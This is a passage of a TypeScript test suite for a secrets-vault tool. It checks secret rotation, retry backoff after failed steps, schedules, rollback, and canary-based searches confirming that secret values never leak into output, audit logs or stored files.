    expect(Date.now() - started).toBeLessThan(10_000);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "FAILED   API_KEY at step apply: step apply timed out after 1 s.",
    );
    expect(await w.get("API_KEY")).toBe(value);
    await w.provider.idle(3000); // the rotator was killed, not left running
    expect(w.provider.log().map((entry) => entry.step)).toEqual(["create"]);
  });
});

describe("rotation and the rest of the vault", () => {
  it("rotations through a command rotator keep no more versions than the vault's history limit", async () => {
    const w = world();
    const init = await w.cli([
      "init",
      "--key-source",
      "keyfile",
      "--key-file",
      w.keyFile("main"),
      "--history",
      "3",
    ]);
    expect(init.code, init.stderr).toBe(0);
    await w.set("API_KEY", fresh("api"), ["--max-age", "30d", ...COMMAND]);
    await w.set("TOKEN", fresh("token"), ["--max-age", "30d", "--rotator", "random:32"]);
    for (let round = 0; round < 4; round++) {
      const result = await w.cli(["rotate", "API_KEY", "TOKEN", "--force"]);
      expect(result.code, result.stderr).toBe(0);
    }
    for (const name of ["TOKEN", "API_KEY"]) {
      const history = await w.cli(["history", name, "--json"]);
      const { versions } = JSON.parse(history.stdout) as { versions: Array<{ version: number }> };
      expect(
        versions.map((entry) => entry.version),
        name,
      ).toEqual([3, 4, 5]);
    }
  });

  it("a value set by hand while a rotation is in progress is not replaced by that rotation's older pending value", async () => {
    const w = world();
    await w.init();
    await w.set("API_KEY", fresh("original"), ["--max-age", "30d", ...COMMAND]);
    const failed = await w.cli(["rotate", "API_KEY", "--force"], {
      env: { FAKE_FAIL_STEP: "verify" },
    });
    expect(failed.code).toBe(1); // pending version 2 is recorded, the rotation is in progress
    const manual = fresh("by-hand");
    w.provider.accept("API_KEY", manual);
    const set = await w.cli(["set", "API_KEY", "--json"], { stdin: manual });
    const manualVersion = (JSON.parse(set.stdout) as { version: number }).version;
    await w.cli(["rotate", "API_KEY", "--force"]);
    const history = await w.cli(["history", "API_KEY", "--json"]);
    const { versions } = JSON.parse(history.stdout) as {
      versions: Array<{ version: number; current: boolean }>;
    };
    const numbers = versions.map((entry) => entry.version);
    expect(numbers, "history runs in version order").toEqual([...numbers].sort((a, b) => a - b));
    const current = versions.find((entry) => entry.current)?.version ?? 0;
    expect(current, "CURRENT is the value set by hand or newer").toBeGreaterThanOrEqual(
      manualVersion,
    );
  });
});

describe("failed rotation steps", () => {
  it("a rotator failing at each step leaves CURRENT unchanged, records the error and exits 1", async () => {
    const w = world();
    await w.init();
    for (const step of ["create", "apply", "verify", "finish"]) {
      const name = `KEY_${step.toUpperCase()}`;
      const value = fresh(step);
      await w.set(name, value, ["--max-age", "30d", ...COMMAND]);
      const result = await w.cli(["rotate", name, "--force"], { env: { FAKE_FAIL_STEP: step } });
      expect(result.code, step).toBe(1);
      expect(result.stderr).toContain(
        `FAILED   ${name} at step ${step}: the rotator refused step ${step}: provider refused ${step}`,
      );
      expect(result.stdout).toContain("0 rotated, 1 failed");
      expect(await w.get(name), `${step}: CURRENT unchanged`).toBe(value);
      const status = await statusOf(w, name);
      expect(status?.state).toBe("failing");
      expect(status?.error?.step).toBe(step);
      expect(status?.retryAt).toBe(new Date(T0.getTime() + 15 * MINUTE_MS).toISOString());
    }
    const audit = await w.cli(["audit", "--json"]);
    const failures = (
      JSON.parse(audit.stdout) as { records: Array<{ op: string; result: string; code?: string }> }
    ).records.filter((record) => record.op === "rotate" && record.result === "error");
    expect(failures.map((record) => record.code)).toEqual(Array(4).fill("ROTATION_FAILED"));
  });

  it("waits out the backoff, retries after it with a doubled backoff, and --force retries at once with the same pending value", async () => {
    const w = world();
    await w.init();
    const original = fresh("original");
    await w.set("API_KEY", original, ["--max-age", "30d", ...COMMAND]);
    const t1 = 31 * DAY_MS;
    w.setClock(at(t1));
    const first = await w.cli(["rotate"], { env: { FAKE_FAIL_STEP: "verify" } });
    expect(first.code).toBe(1);
    expect((await statusOf(w, "API_KEY"))?.retryAt).toBe(at(t1 + 15 * MINUTE_MS).toISOString());

    w.setClock(at(t1 + 5 * MINUTE_MS));
    const steps = w.provider.log().length;
    const waiting = await w.cli(["rotate"]);
    expect(waiting.code).toBe(0);
    expect(waiting.stdout).toContain(
      `waiting  API_KEY: retry after ${at(t1 + 15 * MINUTE_MS).toISOString()}`,
    );
    expect(waiting.stdout).toContain("1 waiting to retry");
    expect(w.provider.log()).toHaveLength(steps);

    w.setClock(at(t1 + 16 * MINUTE_MS));
    const retried = await w.cli(["rotate"], { env: { FAKE_FAIL_STEP: "verify" } });
    expect(retried.code).toBe(1);
    const status = await statusOf(w, "API_KEY");
    expect(status?.inProgress?.attempts).toBe(2);
    expect(status?.retryAt).toBe(at(t1 + 46 * MINUTE_MS).toISOString());
    expect(await w.get("API_KEY")).toBe(original);

    w.setClock(at(t1 + 20 * MINUTE_MS));
    const forced = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(forced.code, forced.stderr).toBe(0);
    expect(forced.stdout).toContain("rotated  API_KEY → version 2");
    const log = w.provider.log();
    expect(log.map((entry) => `${entry.step}:${entry.ok}`)).toEqual([
      "create:true",
      "apply:true",
      "verify:false",
      "verify:false",
      "verify:true",
      "finish:true",
    ]);
    const pendings = new Set(log.filter((e) => e.step !== "create").map((e) => e.pendingHash));
    const current = await w.get("API_KEY");
    expect([...pendings]).toEqual([hashOf(current)]);
    expect(log[0]?.createdHash).toBe(hashOf(current));
    expect(w.provider.accepts("API_KEY", current)).toBe(true);
    expect((await statusOf(w, "API_KEY"))?.state).toBe("ok");
  });

  it("vault rotate NAME --cancel abandons a failing rotation's pending value and keeps CURRENT", async () => {
    const w = world();
    await w.init();
    const original = fresh("original");
    await w.set("API_KEY", original, ["--max-age", "30d", ...COMMAND]);
    const failed = await w.cli(["rotate", "API_KEY", "--force"], {
      env: { FAKE_FAIL_STEP: "verify" },
    });
    expect(failed.code).toBe(1);
    const cancel = await w.cli(["rotate", "API_KEY", "--cancel"]);
    expect(cancel.code, cancel.stderr).toBe(0);
    expect(cancel.stdout).toContain("Cancelled the rotation of API_KEY; CURRENT unchanged.");
    expect(await w.get("API_KEY")).toBe(original);
    expect((await statusOf(w, "API_KEY"))?.state).toBe("ok");
    const history = await w.cli(["history", "API_KEY"]);
    expect(history.stdout).not.toContain("pending");
  });
});

describe("schedules", () => {
  it("a secret that slept through three schedule occurrences rotates once", async () => {
    const w = world();
    await w.init();
    await w.set("TOKEN", fresh("token"), ["--rotate", "0 3 * * *", "--rotator", "random:32"]);
    await w.set("API_KEY", fresh("api"), ["--rotate", "0 3 * * *", ...COMMAND]);
    w.setClock(new Date("2026-03-04T12:00:00.000Z")); // after 03:00 on the 2nd, 3rd and 4th
    const first = await w.cli(["rotate"]);
    expect(first.code, first.stderr).toBe(0);
    expect(first.stdout).toContain("2 rotated, 0 failed");
    const second = await w.cli(["rotate"]);
    expect(second.stdout).toContain("0 rotated, 0 failed");
    expect(await currentVersion(w, "TOKEN")).toBe(2);
    expect(await currentVersion(w, "API_KEY")).toBe(2);
    expect(w.provider.log().filter((entry) => entry.step === "create")).toHaveLength(1);
    const status = await statusOf(w, "TOKEN");
    expect(status?.state).toBe("ok");
    expect(status?.dueAt).toBe("2026-03-05T03:00:00.000Z");
  });

  it("vault status --check exits 1 while a secret is overdue and 0 otherwise", async () => {
    const w = world();
    await w.init();
    await w.set("API_KEY", fresh("api"), ["--max-age", "30d"]);
    await w.set("TOKEN", fresh("token"), ["--max-age", "90d", "--rotator", "random:32"]);
    const expectations: Array<[number, string[], number, string]> = [
      [10 * DAY_MS, [], 0, "ok"],
      [30 * DAY_MS + 3_600_000, [], 0, "manual"],
      [32 * DAY_MS, [], 1, "overdue"],
      [32 * DAY_MS, ["--grace", "3d"], 0, "manual"],
    ];
    for (const [age, flags, code, state] of expectations) {
      w.setClock(at(age));
      const check = await w.cli(["status", "--check", ...flags]);
      expect(check.code, `${age / DAY_MS} days ${flags.join(" ")}`).toBe(code);
      if (code === 1) expect(check.stderr).toContain("Overdue: API_KEY.");
      const status = await w.cli(["status", "--json", ...flags]);
      const entry = (JSON.parse(status.stdout) as StatusJson).secrets.find(
        (secret) => secret.name === "API_KEY",
      );
      expect(entry?.state, `${age / DAY_MS} days ${flags.join(" ")}`).toBe(state);
    }
    await w.set("API_KEY", fresh("api-new"), []); // a new value by hand counts as a rotation
    const after = await w.cli(["status", "--check"]);
    expect(after.code).toBe(0);
  });
});

describe("rollback after rotation", () => {
  it("vault rollback NAME --to N restores the value from before a rotation", async () => {
    const w = world();
    await w.init();
    const original = fresh("original");
    await w.set("API_KEY", original, ["--max-age", "30d", ...COMMAND]);
    const rotated = await w.cli(["rotate", "API_KEY", "--force"]);
    expect(rotated.code, rotated.stderr).toBe(0);
    const next = await w.get("API_KEY");
    expect(next).not.toBe(original);
    const rollback = await w.cli(["rollback", "API_KEY", "--to", "1"]);
    expect(rollback.code, rollback.stderr).toBe(0);
    expect(await w.get("API_KEY")).toBe(original);
    expect(await currentVersion(w, "API_KEY")).toBe(3);
    expect(await w.get("API_KEY", 2)).toBe(next);
  });
});

describe("no value leaks from rotation", () => {
  /** The canary search forms of a value (its random part is everything after the prefix). */
  const canaryOf = (label: string, value: string): Canary => ({
    label,
    value,
    core: value.replace(/^fk_[a-z-]*_?/, ""),
  });

  it("a rotator's stderr that prints the current and pending values reaches our stderr redacted", async () => {
    const w = world();
    await w.init();
    const original = fresh("original");
    await w.set("API_KEY", original, ["--max-age", "30d", ...COMMAND]);
    const result = await w.cli(["rotate", "API_KEY", "--force"], {
      env: { FAKE_PRINT_VALUES: "1" },
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain("rotator of API_KEY: provider debug: current=[redacted");
    const search = new LeakSearch([
      canaryOf("original", original),
      canaryOf("rotated", await w.get("API_KEY")),
    ]);
    search.text("rotate stderr", result.stderr);
    search.text("rotate stdout", result.stdout);
    expect(search.hits).toEqual([]);
  });

  it("a rotator's stderr that prints the value its create step made reaches our stderr redacted", async () => {
    const w = world();
    await w.init();
    await w.set("API_KEY", fresh("original"), ["--max-age", "30d", ...COMMAND]);
    const result = await w.cli(["rotate", "API_KEY", "--force"], {
      env: { FAKE_PRINT_CREATED: "1" },
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain("rotator of API_KEY: provider debug: created");
    const search = new LeakSearch([canaryOf("created", await w.get("API_KEY"))]);
    search.text("rotate stderr", result.stderr);
    expect(search.hits).toEqual([]);
  });

  it("no value appears in the audit log, the vault's files, or the output of rotate, status and schedule, in any encoding", async () => {
    const w = world();
    await w.init();
    const { c1, c2 } = makeCanaries();
    await w.set("API_KEY", c1.value, ["--max-age", "30d", ...COMMAND]);
    await w.set("NOTES", c2.value, ["--max-age", "30d"]);
    await w.set("TOKEN", fresh("token"), ["--max-age", "30d", "--rotator", "random:32"]);
    await w.set("FAILING", fresh("failing"), ["--max-age", "30d", ...COMMAND]);
    const outputs: Array<[string, CliResult]> = [];
    const drive = async (argv: string[], env: Record<string, string> = {}) => {
      outputs.push([argv.join(" "), await w.cli(argv, { env })]);
    };
    const leaky = { FAKE_PRINT_VALUES: "1" };
    w.setClock(at(31 * DAY_MS));
    await drive(["rotate", "--dry-run"], leaky);
    await drive(["status"]);
    await drive(["status", "--json"]);
    await drive(["rotate", "FAILING", "--force"], { ...leaky, FAKE_FAIL_STEP: "apply" });
    await drive(["rotate"], leaky);
    await drive(["rotate", "--json"], leaky);
    await drive(["rotate", "API_KEY", "TOKEN", "--force", "--json"], leaky);
    await drive(["rotate", "FAILING", "--force"], { ...leaky, FAKE_FAIL_STEP: "finish" });
    await drive(["status", "--json"]);
    await drive(["status", "--check"]);
    await drive(["schedule", "API_KEY", "--rotate", "@monthly", ...COMMAND]);
    await drive(["schedule", "API_KEY", "--rotate", "@monthly", "--json", ...COMMAND]);
    await drive(["rollback", "API_KEY", "--to", "1"]);
    await drive(["audit"]);
    await drive(["audit", "--json"]);
    expect(outputs.find(([argv]) => argv === "rotate FAILING --force")?.[1].code).toBe(1);

    const canaries: Canary[] = [c1, c2];
    for (const name of ["API_KEY", "TOKEN", "FAILING"]) {
      const history = await w.cli(["history", name, "--json"]);
      const { versions } = JSON.parse(history.stdout) as {
        versions: Array<{ version: number; label: string }>;
      };
      for (const entry of versions.filter((version) => version.label !== "pending")) {
        const value = await w.get(name, entry.version);
        if (value !== c1.value) canaries.push(canaryOf(`${name} v${entry.version}`, value));
      }
    }
    // FAILING's pending value (created, applied, never promoted) is known to the provider only.
    for (const value of w.provider.valid("FAILING")) {
      if (!canaries.some((canary) => canary.value === value)) {
        canaries.push(canaryOf("FAILING pending", value));
      }
    }
    expect(canaries.length).toBeGreaterThanOrEqual(8);
    const search = new LeakSearch(canaries);
    for (const [argv, result] of outputs) {
      search.text(`${argv}: stdout`, result.stdout);
      search.text(`${argv}: stderr`, result.stderr);
    }
    // What the store holds (the vault's files, or its rows), then every file of the home.
    const stored = await w.vaultBytes();
    const audit = await readStoredAudit(w.home);
    expect(stored.length).toBeGreaterThan(0);
    expect(audit.lines.length).toBeGreaterThan(0);
    expect(audit.head).toBeDefined();
    search.bytesAt("stored vault", stored);
    search.text("stored audit log", audit.lines.join("\n"));
    search.text("stored audit head", audit.head ?? "");
    search.tree("home", w.home);
    expect(search.hits).toEqual([]);
    // The home itself holds the vault, its audit log and its head (the file store).
    expect(search.files).toBeGreaterThanOrEqual(3);
    expect(audit.lines.join("\n")).toContain('"op":"rotate"');
  });
});
